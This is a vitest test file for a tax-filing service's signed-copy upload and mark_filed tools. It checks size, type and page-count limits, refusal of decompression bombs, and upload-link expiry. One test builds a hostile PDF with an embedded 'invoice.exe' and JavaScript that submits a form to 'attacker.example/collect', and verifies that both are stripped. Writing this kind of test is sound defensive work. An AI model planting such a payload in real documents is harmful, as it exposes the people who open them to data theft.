// The signed copy of a filing: uploaded through get_pdf_url's upload_url (a real socket), checked
// (type, size before reading, pages against the packet) and kept with its SHA-256; and mark_filed
// with check_filing's `filed` (days_late stops at the filing date).
import { createHash } from 'node:crypto';
import { EXAMPLE_PARTNERSHIP_FILING } from '@filing-mcp/irs-forms';
import { countPdfPages } from '@filing-mcp/irs-forms/pdf';
import { testDatabases } from '@filing-mcp/test-db';
import { PDFDocument } from '@cantoo/pdf-lib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type FaxStart, JPEG, PNG, READY_FILING, startFaxWithUser } from '../support/fax-harness.js';
import { hugePng, inflationBombPdf } from '../../../irs-forms/test/support/signed-copy-fixtures.js';
import { newUser } from '../support/helpers.js';

const MIB = 1024 * 1024;

const sha256 = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex');

describe.each(testDatabases())('signed copies and mark_filed on $name', (variant) => {
  let fx: FaxStart;
  let filingId: string;

  beforeAll(async () => {
    fx = await startFaxWithUser(variant);
    filingId = (await fx.h.ok(fx.key, 'create_filing', { form_data: READY_FILING })).id;
  });
  afterAll(() => fx?.h.close());

  const uploadUrl = async (id = filingId) =>
    (await fx.h.ok(fx.key, 'get_pdf_url', { id })).upload_url as string;
  const stored = async (id = filingId) =>
    fx.h.db
      .selectFrom('signed_copies')
      .select(['sha256', 'pages', 'pdf'])
      .where('filing_id', '=', id)
      .execute();
  const post = (url: string, body: any, headers: Record<string, string> = {}) =>
    fetch(url, { method: 'POST', body, headers, duplex: 'half' } as RequestInit);

  it('the packet, signed and uploaded as a PDF, is kept rebuilt from its pages with its SHA-256; get_filing lists it', async () => {
    const id = (await fx.h.ok(fx.key, 'create_filing', { form_data: READY_FILING })).id;
    const response = await post(await uploadUrl(id), fx.packet.signed, {
      'content-type': 'application/pdf',
    });
    expect(response.status).toBe(201);
    const body: any = await response.json();
    const row = (await stored(id))[0]!;
    expect(body).toMatchObject({
      signed_copy: { sha256: sha256(row.pdf), pages: fx.packet.pages, byte_size: row.pdf.byteLength },
      packet_pages: fx.packet.pages,
      notes: [],
    });
    expect(await countPdfPages(new Uint8Array(row.pdf))).toBe(fx.packet.pages);
    const filing = await fx.h.ok(fx.key, 'get_filing', { id });
    expect(filing.submissions.signed_copies).toEqual([body.signed_copy]);
    // Deleting the filing deletes its signed copy.
    await fx.h.ok(fx.key, 'delete_filing', { id });
    expect(await stored(id)).toEqual([]);
  });

  it('the unsigned packet, uploaded byte for byte, is refused 422 unsigned, and nothing is stored', async () => {
    const response = await post(await uploadUrl(), fx.packet.pdf as Uint8Array<ArrayBuffer>, {
      'content-type': 'application/pdf',
    });
    expect(response.status).toBe(422);
    const body: any = await response.json();
    expect(body.error).toBe('unsigned');
    expect(body.message).toContain("The copy is not signed: the pro forma 1120's signature box");
    expect(await stored()).toEqual([]);
  });

  it('a signed copy of the previous version of the filing is refused 422, naming the change', async () => {
    const id = (await fx.h.ok(fx.key, 'create_filing', { form_data: READY_FILING })).id;
    const url = await uploadUrl(id);
    await fx.h.ok(fx.key, 'update_filing', {
      id,
      form_data: { ...READY_FILING, llcName: 'Renamed Holdings LLC' },
    });
    const response = await post(url, fx.packet.signed, { 'content-type': 'application/pdf' });
    expect(response.status).toBe(422);
    const body: any = await response.json();
    expect(body.error).toBe('outdated_copy');
    expect(body.message).toContain(
      `“${READY_FILING.llcName}” where the filing now has “Renamed Holdings LLC”`,
    );
    expect(await stored(id)).toEqual([]);
  });

  it('a signed copy with document JavaScript and an embedded file is stored and faxed without them', async () => {
    const id = (await fx.h.ok(fx.key, 'create_filing', { form_data: READY_FILING })).id;
    const document = await PDFDocument.load(fx.packet.signed);
    await document.attach(new TextEncoder().encode('MZ'), 'invoice.exe', {
      mimeType: 'application/octet-stream',
    });
    document.addJavaScript('submit', 'this.submitForm("https://attacker.example/collect");');
    const response = await post(await uploadUrl(id), await document.save(), {
      'content-type': 'application/pdf',
    });
    expect(response.status).toBe(201);
    const kept = Buffer.from((await stored(id))[0]!.pdf).toString('latin1');
    for (const word of ['/JavaScript', '/EmbeddedFile', 'invoice.exe', 'submitForm'])
      expect(kept).not.toContain(word);
    // What is faxed is what was kept.
    const asked = await fx.h.ok(fx.key, 'send_fax', { id });
    await fx.h.ok(fx.key, 'send_fax', { id, confirm: asked.summary.signed_copy_id });
    const media = Buffer.from(fx.h.telnyx.faxes.at(-1)!.media).toString('latin1');
    expect(media.length).toBeGreaterThan(0);
    for (const word of ['/JavaScript', '/EmbeddedFile', 'invoice.exe', 'submitForm'])
      expect(media).not.toContain(word);
  });

  it('an 8000 × 8000 PNG is refused 413 by its header, before it is decoded, and nothing is stored', async () => {
    const response = await post(await uploadUrl(), hugePng(), { 'content-type': 'image/png' });
    expect(response.status).toBe(413);
    expect((await response.json()) as any).toMatchObject({
      error: 'image_too_large',
      message: expect.stringContaining('File 1 is 8000 × 8000 pixels'),
    });
    expect(await stored()).toEqual([]);
  });

  it('a PDF whose stream inflates to 512 MiB is refused 413 before the part to file is built, and nothing is stored', async () => {
    // A filing of its own: its part to file is in no cache, so a build before the bounds would count.
    const id = (await fx.h.ok(fx.key, 'create_filing', { form_data: READY_FILING })).id;
    const url = await uploadUrl(id);
    const before = fx.h.server.packets!.stats();
    const response = await post(url, inflationBombPdf(), { 'content-type': 'application/pdf' });
    expect(response.status).toBe(413);
    expect((await response.json()) as any).toMatchObject({
      error: 'inflates_too_far',
      message: expect.stringContaining('holds a compressed stream that expands past 32 MiB'),
    });
    const after = fx.h.server.packets!.stats();
    // One job (the bounds), no build of the part to file, nothing from the cache.
    expect(after.builds - before.builds).toBe(1);
    expect(after.cacheHits).toBe(before.cacheHits);
    expect(await stored(id)).toEqual([]);
  });

  it('scanned pages (JPEG and PNG), sent as multipart/form-data, become one PDF page each, in order', async () => {
    const id = (await fx.h.ok(fx.key, 'create_filing', { form_data: READY_FILING })).id;
    const form = new FormData();
    for (let page = 0; page < fx.packet.pages; page++) {
      const jpeg = page % 2 === 0;
      form.append(
        'file',
        new Blob([jpeg ? JPEG : PNG], { type: jpeg ? 'image/jpeg' : 'image/png' }),
        `p${page}`,
      );
    }
    const response = await post(await uploadUrl(id), form);
    expect(response.status).toBe(201);
    // Scans without a text layer: what could not be told is said, for the agent to ask the user.
    const body: any = await response.json();
    expect(body.notes.join(' ')).toContain(
      'ask the user to confirm the copy was printed from the current download',
    );
    expect(body.next).toContain('ask the user to confirm');
    const row = (await stored(id))[0]!;
    expect(row.pages).toBe(fx.packet.pages);
    expect(await countPdfPages(new Uint8Array(row.pdf))).toBe(fx.packet.pages);
    expect(row.sha256).toBe(sha256(new Uint8Array(row.pdf)));
  });

  it('a copy with another page count than the packet is refused 422, naming both, and nothing is stored', async () => {
    const response = await post(await uploadUrl(), PNG, { 'content-type': 'image/png' });
    expect(response.status).toBe(422);
    expect((await response.json()) as any).toEqual({
      code: 422,
      error: 'page_count_mismatch',
      message: `The signed copy has 1 page; the part to file has ${fx.packet.pages} (Form 1120 (pro forma), Form 5472 (Maria Garcia), Form 5472 Part V statement (Maria Garcia), Form 5472 (Garcia Consulting SL), Reasonable-cause statement): upload every page of the part to file (get_pdf_url's download_to_file_url), signed, in order, without the cover page or a Form 7004`,
    });
    expect(await stored()).toEqual([]);
  });

  it('a file that is no PDF, JPEG or PNG is refused 415 (by its bytes, not its type), and nothing is stored', async () => {
    const response = await post(await uploadUrl(), 'GIF89a not a scan', {
      'content-type': 'application/pdf',
    });
    expect(response.status).toBe(415);
    expect((await response.json()) as any).toMatchObject({
      error: 'unsupported_type',
      message: 'File 1 is not a PDF, JPEG or PNG: scan the signed pages to one of these',
    });
    const broken = await post(await uploadUrl(), '%PDF-1.7 truncated', { 'content-type': 'application/pdf' });
    expect(broken.status).toBe(422);
    expect(((await broken.json()) as any).error).toBe('unreadable');
    expect(await stored()).toEqual([]);
  });

  it('21 MiB is refused 413 before it is read, by its Content-Length or, streamed without one, at 20 MiB; nothing is stored', async () => {
    const big = new Uint8Array(21 * MIB);
    big.set(fx.packet.pdf);
    const declared = await post(await uploadUrl(), big, { 'content-type': 'application/pdf' });
    expect(declared.status).toBe(413);
    expect(((await declared.json()) as any).message).toBe(
      'The signed copy is larger than 20 MiB: scan it at a lower resolution',
    );
    let sent = 0;
    const stream = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent >= 21 * MIB) return controller.close();
        controller.enqueue(new Uint8Array(MIB));
        sent += MIB;
      },
    });
    const streamed = await post(await uploadUrl(), stream, { 'content-type': 'application/pdf' }).catch(
      (error) => error as Error,
    );
    // The server answers 413 as soon as the bound is passed; a client may see the connection end instead.
    if (streamed instanceof Response) expect(streamed.status).toBe(413);
    expect(await stored()).toEqual([]);
  });

  it('more than 40 pages is refused 422', async () => {
    const document = await PDFDocument.create();
    for (let page = 0; page < 41; page++) document.addPage();
    const response = await post(await uploadUrl(), await document.save(), {
      'content-type': 'application/pdf',
    });
    expect(response.status).toBe(422);
    expect((await response.json()) as any).toMatchObject({
      error: 'too_many_pages',
      message: 'The signed copy has 41 pages; at most 40 are accepted',
    });
    expect(await stored()).toEqual([]);
  });

  it('an upload link works for 24 hours, for its filing only, by POST only', async () => {
    const url = await uploadUrl();
    const other = (await fx.h.ok(fx.key, 'create_filing', { form_data: READY_FILING })).id;
    const forged = url.replace(filingId, other);
    expect((await post(forged, fx.packet.pdf as Uint8Array<ArrayBuffer>)).status).toBe(403);
    const download = (await fx.h.ok(fx.key, 'get_pdf_url', { id: filingId })).download_url as string;
    const asUpload = download.replace(
      `/packets/5472/${filingId}.pdf`,
      `/signed-copies/upload/5472/${filingId}`,
    );
    expect((await post(asUpload, fx.packet.pdf as Uint8Array<ArrayBuffer>)).status).toBe(403);
    const get = await fetch(url);
    expect(get.status).toBe(405);
    expect(get.headers.get('allow')).toBe('POST, PUT');
    fx.h.advance(24 * 3600 * 1000 + 1000);
    try {
      const expired = await post(url, fx.packet.pdf as Uint8Array<ArrayBuffer>);
      expect(expired.status).toBe(403);
      expect(((await expired.json()) as any).message).toBe(
        'Forbidden: this link has expired; call get_pdf_url for a new upload_url',
      );
    } finally {
      fx.h.advance(-(24 * 3600 * 1000 + 1000));
    }
    expect(await stored()).toEqual([]);
    expect(await stored(other)).toEqual([]);
  });

  it('mark_filed by certified mail: check_filing answers filed with the section 7502 proof, and days_late stops at the postmark date', async () => {
    const id = (await fx.h.ok(fx.key, 'create_filing', { form_data: READY_FILING })).id;
    const before = await fx.h.ok(fx.key, 'check_filing', { id, as_of: '2026-11-01' });
    expect(before.days_late).toBe(200);
    expect(before.filed).toBeUndefined();
    const marked = await fx.h.ok(fx.key, 'mark_filed', {
      id,
      method: 'mail',
      date: '2026-05-15',
      tracking_number: '9407 1000 0000 0000 0000 00',
    });
    expect(marked.filed).toMatchObject({
      method: 'mail',
      date: '2026-05-15',
      reference: '9407 1000 0000 0000 0000 00',
    });
    const after = await fx.h.ok(fx.key, 'check_filing', { id, as_of: '2026-11-01' });
    expect(after).toMatchObject({ as_of: '2026-11-01', overdue: true, days_late: 30, late_filing: null });
    expect(after.filed.method).toBe('mail');
    expect(after.filed.date).toBe('2026-05-15');
    expect(after.filed.proof).toContain('postmark');
    expect(after.filed.proof).toContain('certified');
    expect(after.filed.source).toContain('section 7502');
    expect((await fx.h.ok(fx.key, 'get_filing', { id })).submissions.filed).toEqual(after.filed);
  });

  it('mark_filed refuses a future date, a date within the tax year, a bad method and another user’s filing; nothing is stored', async () => {
    const id = (await fx.h.ok(fx.key, 'create_filing', { form_data: READY_FILING })).id;
    const future = await fx.h.call(fx.key, 'mark_filed', { id, method: 'mail', date: '2099-01-01' });
    expect(future.isError).toBe(true);
    expect(future.text).toBe('date 2099-01-01 is in the future: give the day it was filed');
    const early = await fx.h.call(fx.key, 'mark_filed', { id, method: 'fax', date: '2025-12-31' });
    expect(early.text).toBe(
      "date 2025-12-31 is not after the tax year's end (2025-12-31): a return is filed after its tax year ends",
    );
    const method = await fx.h.call(fx.key, 'mark_filed', { id, method: 'pigeon', date: '2026-03-01' });
    expect(method.isError).toBe(true);
    expect(method.text).toContain('must be fax, mail or e-file');
    const stranger = (await newUser(fx.h.db)).key;
    const foreign = await fx.h.call(stranger, 'mark_filed', { id, method: 'mail', date: '2026-03-01' });
    expect(foreign.text).toBe('Filing not found');
    expect(
      await fx.h.db.selectFrom('filed_returns').selectAll().where('filing_id', '=', id).execute(),
    ).toEqual([]);
  });

  it('mark_filed records a partnership’s e-filing, and called again with replace: true corrects it', async () => {
    const id = (await fx.h.ok(fx.key, 'create_partnership_filing', { form_data: EXAMPLE_PARTNERSHIP_FILING }))
      .id;
    await fx.h.ok(fx.key, 'mark_filed', {
      id,
      method: 'e-file',
      date: '2026-03-10',
      tracking_number: 'SUB-1',
    });
    await fx.h.ok(fx.key, 'mark_filed', { id, method: 'mail', date: '2026-03-12', replace: true });
    const check = await fx.h.ok(fx.key, 'check_filing', { id, kind: 'partnership', as_of: '2026-06-01' });
    expect(check.filed).toMatchObject({ method: 'mail', date: '2026-03-12', reference: null });
    expect(check.days_late).toBe(0);
  });
});
